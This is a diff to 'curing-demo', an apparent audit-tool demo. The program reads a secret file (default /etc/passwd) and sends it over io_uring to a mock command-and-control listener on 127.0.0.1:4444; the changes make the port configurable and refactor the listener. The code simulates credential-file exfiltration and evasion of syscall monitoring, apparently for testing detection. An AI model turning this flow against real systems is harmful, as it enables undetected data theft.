@@ -8,6 +8,8 @@
  * 127.0.0.1, sends what it read, and drops a file, each through the ring.
  * The listener is a child process using plain system calls.
  *
+ * Usage: curing-demo [SECRET [PORT]]   (default /etc/passwd, port 4444)
+ *
  * Exit codes: 0 everything went through, 1 an op failed, 2 setup failed.
  *
  * Copyright (C) 2026 The uringaudit authors
@@ -22,25 +24,6 @@
 #include "common.h"
 
 #define C2_PORT 4444
-
-static int c2_listen(void)
-{
-	struct sockaddr_in sin = {
-		.sin_family = AF_INET,
-		.sin_port = htons(C2_PORT),
-		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
-	};
-	int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-
-	if (fd < 0)
-		return -1;
-	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
-	if (bind(fd, (struct sockaddr *)&sin, sizeof(sin)) || listen(fd, 1)) {
-		close(fd);
-		return -1;
-	}
-	return fd;
-}
 
 static void c2_serve(int lfd)
 {
@@ -73,22 +56,24 @@ int main(int argc, char **argv)
 	struct io_uring_params p = { .flags = IORING_SETUP_SQPOLL,
 				     .sq_thread_idle = 2000 };
 	const char *secret = argc > 1 ? argv[1] : "/etc/passwd";
+	int port = argc > 2 ? atoi(argv[2]) : C2_PORT;
 	struct sockaddr_in c2 = {
 		.sin_family = AF_INET,
-		.sin_port = htons(C2_PORT),
+		.sin_port = htons(port),
 		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
 	};
 	static char loot[128];
+	char what[64];
 	struct io_uring_sqe *sqe;
 	struct io_uring ring;
 	int ret, fd, sock, lfd, failed = 0;
 	pid_t server;
 
 	setvbuf(stdout, NULL, _IOLBF, 0);
-	lfd = c2_listen();
+	lfd = listen_loopback(port);
 	if (lfd < 0) {
 		fprintf(stderr, "Failed to listen on \"127.0.0.1:%d\": %s\n",
-			C2_PORT, strerror(errno));
+			port, strerror(errno));
 		return 2;
 	}
 	server = fork();
@@ -124,7 +109,8 @@ int main(int argc, char **argv)
 		sqe = io_uring_get_sqe(&ring);
 		io_uring_prep_connect(sqe, sock, (struct sockaddr *)&c2,
 				      sizeof(c2));
-		ret = step("connect(127.0.0.1:4444)", submit_and_wait(&ring));
+		snprintf(what, sizeof(what), "connect(127.0.0.1:%d)", port);
+		ret = step(what, submit_and_wait(&ring));
 		if (ret >= 0) {
 			sqe = io_uring_get_sqe(&ring);
 			io_uring_prep_send(sqe, sock, loot, strlen(loot), 0);
